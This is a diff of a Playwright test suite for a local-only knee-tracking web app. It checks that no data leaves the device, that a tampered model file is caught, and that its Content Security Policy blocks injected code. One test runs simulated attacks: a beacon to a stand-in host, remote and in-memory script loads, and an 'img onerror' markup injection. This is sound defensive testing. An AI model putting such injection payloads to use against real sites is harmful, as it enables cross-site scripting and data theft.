@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { expect, test, type BrowserContext, type Page } from '@playwright/test';
-import { projectRoot } from '#tools/commands/tools/projectRoot';
+import { firstHalf } from '../support/browser/firstHalf';
+import { fixture } from '../support/browser/headlessPage';
 import { tellCores } from '../support/browser/tellCores';
 
 /** The network is slow on a machine that does other things as well. */
@@ -52,56 +53,56 @@ async function download(page: Page, press: () => Promise<void>) {
 
 test.use({ bypassCSP: false });
 
-test('nothing leaves the device while the example is viewed, a clip tracked and a recording saved', async ({
-  page,
-  context,
-  baseURL,
-}) => {
-  test.setTimeout(2 * trackingTimeoutMs);
-  const origin = new URL(baseURL!).origin;
-  const seen = await watch(context);
-  await page.goto('./');
-  await page.getByRole('button', { name: 'Open the example' }).click();
-  await expect(rows(page)).toHaveCount(6);
-  await page.getByRole('button', { name: 'Go to this moment' }).click();
-  await page.getByRole('button', { name: 'New video' }).click();
+test(
+  'nothing leaves the device while the example is viewed, a clip tracked and a recording saved',
+  { tag: '@network' },
+  async ({ page, context, baseURL }) => {
+    test.setTimeout(2 * trackingTimeoutMs);
+    const origin = new URL(baseURL!).origin;
+    const seen = await watch(context);
+    await page.goto('./');
+    await page.getByRole('button', { name: 'Open the example' }).click();
+    await expect(rows(page)).toHaveCount(6);
+    await page.getByRole('button', { name: 'Go to this moment' }).click();
+    await page.getByRole('button', { name: 'New video' }).click();
 
-  await page.locator('input[type=file]').setInputFiles({
-    name: 'Erika-Mustermann-knee.mp4',
-    mimeType: 'video/mp4',
-    buffer: readFileSync(`${projectRoot}fixtures/short.mp4`),
-  });
-  await page.getByRole('radio', { name: 'Right leg' }).check({ force: true });
-  await page.getByRole('button', { name: /How closely to look/ }).click();
-  await page.getByRole('option', { name: /lite/ }).click();
-  await page.getByRole('button', { name: 'Measure this video' }).click();
-  await expect(rows(page)).toHaveCount(2, { timeout: trackingTimeoutMs });
+    await page.locator('input[type=file]').setInputFiles({
+      name: 'Erika-Mustermann-knee.mp4',
+      mimeType: 'video/mp4',
+      buffer: firstHalf(),
+    });
+    await page.getByRole('radio', { name: 'Right leg' }).check({ force: true });
+    await page.getByRole('button', { name: /How closely to look/ }).click();
+    await page.getByRole('option', { name: /lite/ }).click();
+    await page.getByRole('button', { name: 'Measure this video' }).click();
+    await expect(rows(page)).toHaveCount(1, { timeout: trackingTimeoutMs });
 
-  const files = [
-    await download(page, () => page.getByRole('button', { name: 'Save recording' }).click()),
-    await download(page, () => saveTable(page, 'One row per repetition')),
-    await download(page, () => saveTable(page, 'One row per frame')),
-  ];
-  expect(files.map(({ name }) => name.replace(/\d{4}-\d\d-\d\d/, 'DATE'))).toEqual([
-    'overfoot-session-DATE.json',
-    'overfoot-repetitions-DATE.csv',
-    'overfoot-frames-DATE.csv',
-  ]);
-  for (const { name, text } of files) expect(text, name).not.toContain('Mustermann');
-  expect(files[1]!.text.split('\r\n')).toHaveLength(1 + 2 + 1);
+    const files = [
+      await download(page, () => page.getByRole('button', { name: 'Save recording' }).click()),
+      await download(page, () => saveTable(page, 'One row per repetition')),
+      await download(page, () => saveTable(page, 'One row per frame')),
+    ];
+    expect(files.map(({ name }) => name.replace(/\d{4}-\d\d-\d\d/, 'DATE'))).toEqual([
+      'overfoot-session-DATE.json',
+      'overfoot-repetitions-DATE.csv',
+      'overfoot-frames-DATE.csv',
+    ]);
+    for (const { name, text } of files) expect(text, name).not.toContain('Mustermann');
+    expect(files[1]!.text.split('\r\n')).toHaveLength(1 + 1 + 1);
 
-  // The worker's own requests were heard too, so that silence means something.
-  expect(seen.requests.some((url) => url.endsWith('models/blazepose-lite.bin'))).toBe(true);
-  expect(outside(seen, origin)).toEqual([]);
-  expect(refusals(seen)).toEqual([]);
-  for (const url of seen.requests) expect(url).not.toMatch(/mustermann|[?#]/i);
-  const spoken = seen.console.join('\n');
-  expect(spoken).not.toMatch(
-    /mustermann|\.mp4|\.json|\.csv|repetition|verdict|\d\s*(°|degrees)|inward|outward|knee/i,
-  );
-});
+    // The worker's own requests were heard too, so that silence means something.
+    expect(seen.requests.some((url) => url.endsWith('models/blazepose-lite.bin'))).toBe(true);
+    expect(outside(seen, origin)).toEqual([]);
+    expect(refusals(seen)).toEqual([]);
+    for (const url of seen.requests) expect(url).not.toMatch(/mustermann|[?#]/i);
+    const spoken = seen.console.join('\n');
+    expect(spoken).not.toMatch(
+      /mustermann|\.mp4|\.json|\.csv|repetition|verdict|\d\s*(°|degrees)|inward|outward|knee/i,
+    );
+  },
+);
 
-test('WebAssembly may run threads', async ({ page, context }) => {
+test('WebAssembly may run threads', { tag: '@network' }, async ({ page, context }) => {
   const seen = await watch(context);
   await tellCores(page, 4);
   await page.goto('./');
@@ -111,55 +112,91 @@ test('WebAssembly may run threads', async ({ page, context }) => {
   expect(refusals(seen)).toEqual([]);
 });
 
-test('an injected script can neither send anything nor start another script', async ({ page, context }) => {
+test('an injected script can’t fetch from elsewhere, start another script, or turn text into markup', async ({
+  page,
+  context,
+}) => {
   const seen = await watch(context);
   await page.goto('./');
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   const outcome = await page.evaluate(async () => {
     const tries: Record<string, string> = {};
     const elsewhere = 'https://elsewhere.invalid/';
-    tries['fetch'] = await fetch(elsewhere, { mode: 'no-cors' }).then(
-      () => 'sent',
-      () => 'refused',
-    );
-    // Counts as sent where the browser takes it before it asks the policy, which then drops it: see below.
-    navigator.sendBeacon('https://beacon.invalid/', 'x');
+    const attempt = async (name: string, act: () => string | Promise<string>) => {
+      try {
+        tries[name] = await act();
+      } catch {
+        tries[name] = 'refused';
+      }
+    };
     const loads = (element: HTMLElement) =>
       new Promise<string>((resolve) => {
         element.onload = () => resolve('loaded');
         element.onerror = () => resolve('refused');
         document.body.append(element);
       });
-    tries['picture'] = await loads(Object.assign(new Image(), { src: elsewhere }));
-    const script = document.createElement('script');
-    script.src = `${elsewhere}x.js`;
-    tries['script'] = await loads(script);
-    const ran = window as unknown as { ran?: boolean };
-    const inline = document.createElement('script');
-    inline.textContent = 'window.ran = true';
-    document.body.append(inline);
-    tries['inline script'] = ran.ran ? 'ran' : 'refused';
-    const fromBlob = document.createElement('script');
-    fromBlob.src = URL.createObjectURL(new Blob(['window.ran = true'], { type: 'text/javascript' }));
-    tries['script from memory'] = await loads(fromBlob);
-    try {
-      tries['eval'] = String(new Function('return "ran"')());
-    } catch {
-      tries['eval'] = 'refused';
-    }
+    const script = (change: (element: HTMLScriptElement) => void) => {
+      const element = document.createElement('script');
+      change(element);
+      return element;
+    };
+    const fromMemory = URL.createObjectURL(new Blob(['window.ran = true'], { type: 'text/javascript' }));
+    await attempt('fetch', () => fetch(elsewhere, { mode: 'no-cors' }).then(() => 'sent'));
+    // Counts as sent where the browser takes it before it asks the policy, which then drops it: see below.
+    navigator.sendBeacon('https://beacon.invalid/', 'x');
+    await attempt('picture', () => loads(Object.assign(new Image(), { src: elsewhere })));
+    await attempt('script', () => loads(script((element) => (element.src = `${elsewhere}x.js`))));
+    await attempt('script from memory', () => loads(script((element) => (element.src = fromMemory))));
+    await attempt('inline script', () => {
+      document.body.append(script((element) => (element.textContent = 'window.ran = true')));
+      return (window as unknown as { ran?: boolean }).ran ? 'ran' : 'refused';
+    });
+    await attempt('markup', () => {
+      document.createElement('div').innerHTML = '<img src=x onerror="window.ran = true">';
+      return 'parsed';
+    });
+    await attempt('worker from elsewhere', () => {
+      new Worker(`${elsewhere}x.js`);
+      return 'started';
+    });
+    await attempt('another rule', () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
+      return 'made';
+    });
+    await attempt('eval', () => String(new Function('return "ran"')()));
     return tries;
   });
-  expect(outcome).toMatchObject({
-    fetch: 'refused',
-    picture: 'refused',
-    script: 'refused',
-    'inline script': 'refused',
-    'script from memory': 'refused',
-    eval: 'refused',
-  });
+  for (const [name, result] of Object.entries(outcome)) expect(result, name).toBe('refused');
+  expect(Object.keys(outcome)).toHaveLength(9);
   await expect
     .poll(() => new Set(seen.violations.map((text) => text.split(' ')[0])))
-    .toEqual(new Set(['connect-src', 'img-src', 'script-src-elem', 'script-src']));
+    .toEqual(
+      new Set(['connect-src', 'img-src', 'script-src-elem', 'require-trusted-types-for', 'trusted-types']),
+    );
   expect(seen.violations.join('\n')).toContain('connect-src refused https://beacon.invalid/');
+});
+
+test('a network whose weights were changed measures nothing, and says so', async ({ page }) => {
+  await page.route('**/models/blazepose-lite.bin', async (route) => {
+    const answer = await route.fetch();
+    const body = await answer.body();
+    body[100_000]! ^= 1;
+    await route.fulfill({ response: answer, body });
+  });
+  await page.goto('./');
+  await page.locator('input[type=file]').setInputFiles(fixture('short.mp4'));
+  await page.getByRole('radio', { name: 'Right leg' }).check({ force: true });
+  await page.getByRole('button', { name: /How closely to look/ }).click();
+  await page.getByRole('option', { name: /lite/ }).click();
+  await page.getByRole('button', { name: 'Measure this video' }).click();
+  await expect(
+    page.getByText(/blazepose-lite\.bin is not the one that this version measures with/),
+  ).toBeVisible({
+    timeout: trackingTimeoutMs,
+  });
 });
 
 async function saveTable(page: Page, name: string) {
